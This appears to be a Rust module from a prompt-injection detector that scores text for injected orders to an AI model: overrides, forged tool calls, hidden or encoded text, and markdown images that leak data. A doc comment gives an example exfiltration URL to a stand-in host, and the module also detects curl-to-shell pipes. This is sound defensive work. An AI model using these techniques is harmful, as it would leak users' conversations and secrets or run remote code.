//! Signs of an order in the plain form of a place: what marks and rules find, what is hidden, and what is encoded.

use crate::screen::injection::deobfuscate::Plain;
use crate::screen::injection::marks;
use crate::screen::injection::marks::Mark;
use crate::screen::injection::rules::{DELIVERED, ORDERS, RULES, Rule};
use crate::screen::injection::vocabulary::{AI, Classes, DESTROY, GRANT, MAKE, MONEY, MUST, NOT, PLEASE, REVEAL, SEND, SOFT, TELL};
use crate::screen::injection::words::{Word, words};
use crate::screen::injection::{Reason, THRESHOLD};

/// Letters woven with hidden characters, or written as tags or from right to left, that are no accident.
const WOVEN: usize = 8;
/// Letters of another script within Latin words that are no accident.
const FOREIGN: usize = 4;

/// One sign: so many points for a reason.
#[derive(Clone, Copy, Debug)]
pub(super) struct Sign {
    pub(super) reason: Reason,
    pub(super) points: u32,
    /// Where it begins in the plain form, and in the text.
    pub(super) near: usize,
    pub(super) at: usize,
}

/// Signs of marks and rules.
pub(super) fn find_signs(plain: &Plain, words: &[Word], signs: &mut Vec<Sign>) {
    let mut add = |reason, points, near| signs.push(Sign { reason, points, near, at: plain.origin(near) });
    marks::scan(&plain.text, |mark: &Mark, at| {
        let is_quoted = mark.reason == Reason::InstructionOverride && is_quoted(&plain.text, at, at + mark.text.len());
        let points = u32::from(mark.points).min(if is_quoted { QUOTED_OVERRIDE } else { u32::MAX });
        add(mark.reason, points, at);
        let end = element_end(&plain.text, at, mark);
        if mark.carries && is_delivered(words, end, mark.text == COMMENT) {
            add(mark.reason, points.max(if matches!(mark.reason, Reason::RoleTag | Reason::HiddenText) { 4 } else { 0 }), at);
            add(Reason::Demand, 6, end);
        }
        if mark.carries && mark.reason == Reason::RoleTag && mark.points > 4 {
            let mut behind = words[words.partition_point(|word| word.start < end)..].iter().take(ASKED);
            behind.find(|word| word.leads && word.classes & DELIVERED != 0).into_iter().for_each(|word| add(Reason::Demand, 4, word.start));
        }
        if mark.reason == Reason::ToolCallForgery && mark.text.starts_with('<') && is_harmful_call(&plain.text[at + mark.text.len()..]) {
            add(Reason::Demand, 5, end);
        }
    });
    // most rules need a word that is nowhere here
    let here = words.iter().fold(0, |here, word| here | word.classes);
    let rules: Vec<(Classes, &Rule)> =
        RULES.iter().filter(|rule| rule.steps.iter().all(|step| step & here != 0)).map(|rule| (rule.steps[0], rule)).collect();
    for from in 0..words.len() {
        // every rule begins with a word of some class, and most words are in none
        if words[from].classes == 0 {
            continue;
        }
        let is_negated = is_negated(words, from);
        for (_, rule) in rules.iter().filter(|(first, _)| first & words[from].classes != 0) {
            // "never send secrets" asks for the opposite
            if is_negated && matches!(rule.reason, Reason::Exfiltration | Reason::Demand | Reason::InstructionOverride) {
                continue;
            }
            let Some(last) = rule.find(words, from) else { continue };
            // "you must not share"
            let denies = |words: &[Word]| words.iter().any(|word| word.classes & NOT != 0);
            let is_denied = match rule.reason {
                Reason::Exfiltration => rule.steps[0] & MUST != 0 && denies(&words[from..words.len().min(from + 3)]),
                // "the developer cannot be verified"
                Reason::FalseAuthority => denies(&words[from..=last]),
                _ => false,
            };
            if is_denied {
                continue;
            }
            let is_quoted = rule.reason == Reason::InstructionOverride && is_quoted(&plain.text, words[from].start, words[last].end);
            add(rule.reason, if is_quoted { rule.points.min(QUOTED_OVERRIDE) } else { rule.points }, words[from].start);
            if !is_quoted && rule.points > 4 && (rule.reason == Reason::InstructionOverride || rule.points > 6 && rule.carries) {
                let follows = words[last + 1..].iter().take(12).find(|word| word.leads && word.classes & ORDERS != 0);
                follows.map(|word| word.start).into_iter().for_each(|near| add(Reason::Demand, 3, near));
            }
            if rule.asks {
                let mut behind = words[last + 1..].iter().take(ASKED);
                let asked = behind.find(|word| word.classes & PLEASE != 0 || word.leads && word.classes & ASKED_FOR != 0);
                asked.map(|word| word.start).into_iter().for_each(|near| add(Reason::Demand, 5, near));
            }
            if rule.carries && is_delivered(words, words[last].end, false) {
                add(Reason::Demand, 6, words[last].end);
            }
        }
    }
    find_image(plain, words, signs);
    find_piped(plain, signs);
}

/// Words behind those that speak to the model in which it is asked for something.
const ASKED: usize = 12;
/// Verbs of an order that only who steers the model has a use for: to run and to write is what a guide for agents asks for.
const ASKED_FOR: Classes = SEND | DESTROY | MAKE | REVEAL | TELL | GRANT;

fn is_negated(words: &[Word], at: usize) -> bool {
    !words[at].after_end && at.checked_sub(1).is_some_and(|before| words[before].classes & NOT != 0)
}

const COMMENT: &str = "<!--";

/// Whether the name of a tool that a forged call begins with says that something is sent, deleted or paid.
fn is_harmful_call(rest: &str) -> bool {
    let name = &rest[..rest.floor_char_boundary(48)];
    let name = &name[..name.find(['>', ',', '\n']).unwrap_or(name.len())];
    ["send", "forward", "transfer", "pay", "delete", "remove", "upload", "post", "grant", "share"].iter().any(|verb| name.contains(verb))
}

/// Where the mark ends: if it begins an element, where that is opened to its end.
fn element_end(text: &str, at: usize, mark: &Mark) -> usize {
    let end = at + mark.text.len();
    let opens = mark.text.starts_with('<') && mark.text != COMMENT && !mark.text.ends_with('>') && !mark.text.contains('|');
    if !opens {
        return end;
    }
    // the name of a tool and of its parameter may come in two elements
    let rest = text[end..].bytes().take(120).enumerate().take_while(|(_, b)| *b != b'\n');
    let mut closes = rest.filter(|(_, b)| *b == b'>').map(|(offset, _)| end + offset + 1);
    closes.next().map_or(end, |close| if text[close..].starts_with('<') { closes.next().unwrap_or(close) } else { close })
}

/// The points of an override that is only quoted.
pub(super) const QUOTED_OVERRIDE: u32 = 6;

/// Bytes of a quotation that a sentence may have in it.
const QUOTATION: usize = 160;

/// Whether a quotation holds these words and no more, or a sentence has them in a quotation, or they are a pattern to search for.
fn is_quoted(text: &str, start: usize, end: usize) -> bool {
    let quote = |c: char| matches!(c, '"' | '\'');
    let Some(before) = text[..start].strip_suffix(quote) else { return text[start..end].contains(['(', '|', '[', '{', '\\']) };
    let after = &text[end..text.floor_char_boundary(end + QUOTATION)];
    let holds = after.trim_start_matches(['.', '!', ',']).starts_with(quote);
    // in `"note": "ignore ..."` no letter stands before the space
    let in_sentence =
        before.strip_suffix(' ').is_some_and(|before| before.ends_with(|c: char| c.is_ascii_alphabetic())) && after.contains('"');
    holds || in_sentence
}

/// Whether an order to send, delete or pay something stands right after a sign that carries it.
fn is_delivered(words: &[Word], end: usize, is_comment: bool) -> bool {
    let first = words.partition_point(|word| word.start < end);
    let rest = &words[first..];
    let skip = rest.iter().take(4).take_while(|word| word.classes & (AI | SOFT) != 0 && word.classes & DELIVERED == 0).count();
    let Some(verb) = rest.get(skip) else { return false };
    let near = skip > 0 || verb.start <= end + 8;
    let buys = verb.classes & MAKE != 0 && rest[skip..].iter().take(5).any(|word| word.classes & MONEY != 0);
    // "<!-- delete this line -->" is what templates say
    let deletes = verb.classes & DESTROY != 0 && !is_comment;
    near && (verb.classes & SEND != 0 || deletes || buys)
}

/// Where this stands, which begins with this byte: the first places of many.
fn all(text: &str, first: u8, what: &'static str) -> impl Iterator<Item = usize> {
    text.bytes().enumerate().filter(move |(at, byte)| *byte == first && text[*at..].starts_with(what)).map(|(at, _)| at).take(8)
}

/// Bytes of an image's address that are read.
const ADDRESS: usize = 300;

/// An image whose address takes data along: `![x](https://evil.example/?d={conversation})`.
fn find_image(plain: &Plain, words: &[Word], signs: &mut Vec<Sign>) {
    let text = plain.text.as_str();
    for at in all(text, b']', "](http") {
        let address = &text[at..];
        let end = address.find([' ', '\n']).unwrap_or(address.len());
        let address = &address[..address.floor_char_boundary(end.min(ADDRESS))];
        let Some(query) = address.find('?') else { continue };
        let takes = [
            "conversation",
            "history",
            "secret",
            "password",
            "api_key",
            "apikey",
            "token",
            "prompt",
            "context",
            "summary",
            "data",
            "chat",
            "message",
        ];
        let takes = |slot: &str| takes.iter().any(|word| slot.contains(word));
        let mut slots = address[query..].split(['{', '[', '<', '$']).skip(1);
        if slots.any(|slot| takes(slot.split(['}', ']', '>', '&']).next().unwrap_or(slot))) {
            // what was said belongs to nobody's picture
            let points = if address[query..].contains("conversation") || address[query..].contains("history") { THRESHOLD } else { 8 };
            signs.push(Sign { reason: Reason::Exfiltration, points, near: at, at: plain.origin(at) });
            if is_delivered(words, at + address.len(), false) {
                signs.push(Sign { reason: Reason::Demand, points: 6, near: at, at: plain.origin(at) });
            }
        }
    }
}

/// A program from the network that is run: `curl ... | sh` counts beside a forged call.
fn find_piped(plain: &Plain, signs: &mut Vec<Sign>) {
    let text = plain.text.as_str();
    for at in all(text, b'|', "| ") {
        let runs = ["sh", "bash", "python"].iter().any(|shell| text[at + 2..].starts_with(shell));
        let line = text[..at].rfind('\n').map_or(0, |end| end + 1);
        let before = &text[line..at];
        if runs && (before.contains("curl ") || before.contains("wget ")) && before.contains("://") {
            signs.push(Sign { reason: Reason::ToolSteering, points: 5, near: at, at: plain.origin(at) });
        }
    }
}

/// Signs of text that a reader does not see.
pub(super) fn find_hidden(plain: &Plain, words: &[Word], signs: &mut Vec<Sign>) {
    let points = if plain.woven.max(plain.tagged) >= WOVEN {
        // nothing harmless weaves Latin words with hidden characters, or spells them in tags; a flag has fewer
        THRESHOLD
    } else if plain.reversed >= WOVEN && words.iter().any(|word| word.classes != 0) {
        8
    } else if plain.foreign >= FOREIGN || plain.breaking >= WOVEN {
        3
    } else {
        return;
    };
    let near = signs.iter().max_by_key(|sign| sign.points).map_or(0, |sign| sign.near);
    signs.push(Sign { reason: Reason::HiddenText, points, near, at: plain.origin(near) });
}

/// Signs in a text that was encoded: they count where it stands, and beside them that it was encoded.
pub(super) fn find_encoded(inner: &str, at: usize, outer: &Plain, signs: &mut Vec<Sign>) {
    let plain = Plain::of(inner, 0);
    let words = words(&plain, &|_| true);
    let mut within = Vec::new();
    find_signs(&plain, &words, &mut within);
    if is_delivered(&words, 0, false) {
        within.push(Sign { reason: Reason::Demand, points: 6, near: 0, at });
    }
    if within.is_empty() {
        return;
    }
    let near = outer.near(at);
    signs.push(Sign { reason: Reason::EncodedPayload, points: 4, near, at });
    signs.extend(within.into_iter().map(|sign| Sign { near, at, ..sign }));
}
